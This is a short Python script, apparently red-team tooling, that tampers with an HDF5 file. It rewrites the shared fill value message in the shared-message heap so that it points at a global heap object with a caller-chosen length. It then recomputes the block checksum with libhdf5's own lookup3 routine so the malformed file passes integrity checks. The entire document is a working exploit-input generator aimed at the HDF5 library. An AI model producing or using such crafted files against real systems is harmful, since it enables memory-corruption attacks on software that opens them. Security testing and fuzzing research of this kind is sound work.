"""Makes the shared fill value message of shared_fill.c's file name the string of `s` (the
collection's object 1) with a stored length of LENGTH, its heap block's checksum
recomputed with libhdf5's own lookup3 (red team s33 HG6).

Usage: shared_fill.py IN OUT LENGTH

The shared message is in the first direct block (`FHDB`) of the shared-message heap
(`FRHP`): a version 3 fill value message with flags 0x2a and a 16-byte NULL string
(length 0, address 0, index 0). The block's checksum follows its header (signature,
version, the heap's address and the block offset, whose width comes from the heap's
maximum heap size in bits).
"""
import ctypes
import struct
import sys

source, target, length = sys.argv[1], sys.argv[2], int(sys.argv[3])
library = ctypes.CDLL("/usr/lib/x86_64-linux-gnu/hdf5/serial/libhdf5.so")
library.H5_checksum_lookup3.restype = ctypes.c_uint32
library.H5_checksum_lookup3.argtypes = [ctypes.c_char_p, ctypes.c_size_t, ctypes.c_uint32]
data = bytearray(open(source, "rb").read())
heap, block, collection = data.find(b"FRHP"), data.find(b"FHDB"), data.find(b"GCOL")
assert min(heap, block, collection) > 0
block_size = struct.unpack_from("<Q", data, heap + 112)[0]
offset_bytes = (struct.unpack_from("<H", data, heap + 128)[0] + 7) // 8
checksum_at = block + 4 + 1 + 8 + offset_bytes
message = bytes([3, 0x2A]) + struct.pack("<I", 16) + bytes(16)
at = data.find(message, block, block + block_size)
assert at > 0, "the shared fill value message is not in the heap's first block"
struct.pack_into("<IQI", data, at + 6, length, collection, 1)
struct.pack_into("<I", data, checksum_at, 0)
checksum = library.H5_checksum_lookup3(bytes(data[block:block + block_size]), block_size, 0)
struct.pack_into("<I", data, checksum_at, checksum)
open(target, "wb").write(bytes(data))
